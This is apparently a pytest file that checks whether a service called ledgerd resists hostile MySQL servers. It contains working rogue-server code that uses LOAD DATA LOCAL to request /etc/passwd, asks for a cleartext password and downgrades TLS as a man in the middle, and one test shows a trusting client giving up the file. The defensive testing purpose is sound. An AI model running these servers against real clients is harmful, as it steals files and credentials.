"""A hostile or hijacked MySQL server asks for files of the client; it must not get a byte of any.

LOAD DATA LOCAL lets a server name the file that the client sends, in answer to any statement. Here
a server that speaks just enough of the protocol asks every command for /etc/passwd; and a hijacker
between a daemon and its real database asks for it in place of the daemon's own rows. What arrives
at their end is what counts.
"""

import asyncio
import os
import subprocess
import threading
from contextlib import contextmanager, suppress

import pymysql
import pytest

from harness import LEDGERD, eventually, random_events

FILE = b"/etc/passwd"
QUERY = 3  # the first byte of a command packet
ASKS = b"\xfb"  # the first byte of the answer that asks for a file
OK = b"\0\0\0\2\0\0\0"
# Protocol 10, version, thread, half of the salt, capabilities (4.1, secure, plugin, LOCAL), rest.
GREETING = (b"\x0a8.0.0-rogue\0\1\0\0\0" b"12345678\0" b"\x89\xa2\x2d\2\0\x08\0\x15" + bytes(10)
            + b"123456789012\0mysql_native_password\0")


class Peer:
    """What connections of one server leave behind: how often it asked, and what it was sent."""

    def __init__(self):
        self.asked = 0
        self.sent = b""  # in answer to the request: the file's bytes
        self.seen = b""  # everything that ever came

    async def receive(self, reader):
        """The sequence number and the payload of the client's next packet."""
        sequence, payload = await receive(reader)
        self.seen += payload
        return sequence, payload

    async def take_file(self, reader):
        """The client's answer to a request: packets up to an empty one. Its sequence number."""
        self.asked += 1
        while True:
            sequence, payload = await self.receive(reader)
            if not payload:
                return sequence
            self.sent += payload


class Rogue(Peer):
    """Lets everybody log in, and answers the first statement with a request for a file."""

    async def serve(self, reader, writer):
        send(writer, 0, GREETING)
        sequence, _ = await self.receive(reader)
        send(writer, sequence + 1, OK)
        while (await self.receive(reader))[1][0] != QUERY:
            send(writer, 1, OK)
        send(writer, 1, ASKS + FILE)
        sequence = await self.take_file(reader)
        send(writer, sequence + 1, OK)


class Prying(Peer):
    """Asks for the password itself."""

    async def serve(self, reader, writer):
        send(writer, 0, GREETING)
        sequence, _ = await self.receive(reader)
        self.asked += 1
        send(writer, sequence + 1, b"\xfemysql_clear_password\0")
        await self.receive(reader)


class Hijacker(Peer):
    """Hands everything on between a client and the real server; but while it is `bad`, it puts its
    own file's name where the server asks for the client's. It hides that the server offers TLS,
    which a client would take without being told to."""

    def __init__(self, port):
        super().__init__()
        self.port = port
        self.bad = True

    async def serve(self, reader, writer):
        from_server, to_server = await asyncio.open_connection("127.0.0.1", self.port)
        loading = asyncio.Event()
        answers = asyncio.create_task(self.hand_back(from_server, writer, loading))
        try:
            while True:
                sequence, payload = await self.receive(reader)
                send(to_server, sequence, payload)
                if payload[:1] == bytes([QUERY]) and b"LOAD DATA" in payload and self.bad:
                    loading.set()
                    sequence = await self.take_file(reader)
                    send(to_server, sequence, b"")
        finally:
            answers.cancel()
            to_server.close()

    async def hand_back(self, reader, writer, loading):
        try:
            send(writer, *without_tls(*await receive(reader)))
            while True:
                sequence, payload = await receive(reader)
                if loading.is_set() and payload[:1] == ASKS:
                    payload = ASKS + FILE
                    loading.clear()
                send(writer, sequence, payload)
        finally:
            writer.close()


def without_tls(sequence, greeting):
    """The greeting with the bit of TLS cleared, in the second byte of the capabilities."""
    at = greeting.index(0, 1) + 15
    return sequence, greeting[:at] + bytes([greeting[at] & ~0x08]) + greeting[at + 1:]


async def receive(reader):
    head = await reader.readexactly(4)
    return head[3], await reader.readexactly(int.from_bytes(head[:3], "little"))


def send(writer, sequence, payload):
    writer.write(len(payload).to_bytes(3, "little") + bytes([sequence % 256]) + payload)


@contextmanager
def serving(peer):
    """The port on which it is served, by a thread of its own."""
    loop = asyncio.new_event_loop()

    async def serve(reader, writer):
        # Clients may go away at any time, the tests' end included.
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.CancelledError):
            await peer.serve(reader, writer)
        writer.close()

    server = loop.run_until_complete(asyncio.start_server(serve, "127.0.0.1", 0))
    thread = threading.Thread(target=loop.run_forever)
    thread.start()
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        loop.call_soon_threadsafe(loop.stop)
        thread.join()
        server.close()
        for task in asyncio.all_tasks(loop):
            task.cancel()
        loop.run_until_complete(asyncio.sleep(0))
        loop.close()


def assert_got_nothing(peer):
    assert peer.asked > 0
    assert peer.sent == b""
    with open(FILE, "rb") as file:
        for line in file:
            assert line not in peer.seen


PASSWORD = "never-in-the-clear"


def meet(peer, command, *arguments):
    """The exit status of a command whose database is this peer, and what it said."""
    with serving(peer) as port:
        options = {"MYSQL_PORT": port, "MYSQL_HOST": "127.0.0.1", "MYSQL_PASSWORD": PASSWORD,
                   "KAFKA_BOOTSTRAP_SERVERS": "127.0.0.1:1", "REDIS_ENABLED": "false",
                   "HTTP_LISTEN": '""'}
        env = os.environ | {f"LEDGERD_{name}": str(value) for name, value in options.items()}
        done = subprocess.run([LEDGERD, command, *arguments], env=env, capture_output=True,
                              stdin=subprocess.DEVNULL, timeout=60, text=True)
        return done.returncode, done.stdout + done.stderr


def test_a_trusting_client_gives_the_file():
    """So this server could take one."""
    rogue = Rogue()
    with serving(rogue) as port:
        with pymysql.connect(host="127.0.0.1", port=port, local_infile=True,
                             autocommit=None) as connection:
            connection.query("SELECT 1")
    with open(FILE, "rb") as file:
        assert rogue.sent == file.read()


@pytest.mark.parametrize("command", ["run", "migrate", "check-config", "status", "verify",
                                     "statement 1", "dead-letters list"])
def test_no_command_gives_a_file_to_a_rogue_server(command):
    rogue = Rogue()
    status, said = meet(rogue, *command.split())
    assert status == 1, said
    assert_got_nothing(rogue)


def test_a_server_that_asks_for_the_password_does_not_get_it():
    prying = Prying()
    status, said = meet(prying, "migrate")
    assert status == 1, said
    assert "mysql.tls_ca" in said
    assert prying.asked > 0
    assert PASSWORD.encode() not in prying.seen


def test_a_flush_whose_file_is_swapped_sends_nothing_and_loses_nothing(make_ledger):
    ledger = make_ledger(partitions=1)
    hijacker = Hijacker(ledger.stack.mysql.port)
    with serving(hijacker) as port:
        one = ledger.start(mysql_port=port)
        ledger.publish(random_events(200))
        eventually(lambda: hijacker.sent or FILE.decode() in one.log, what="the log names the file")
        assert_got_nothing(hijacker)
        eventually(lambda: halted(ledger), what="the partition is halted")
        assert ledger.sql("SELECT * FROM balance_transactions") == ()
        hijacker.bad = False
        ledger.run("resume", "--partition", 0, "--reason", "the hijacker is gone")
        ledger.wait_consumed()
        one.stop()
    assert_got_nothing(hijacker)
    ledger.assert_equals_oracle()


def halted(ledger):
    return ledger.sql("SELECT * FROM partition_offsets WHERE halted_reason IS NOT NULL")
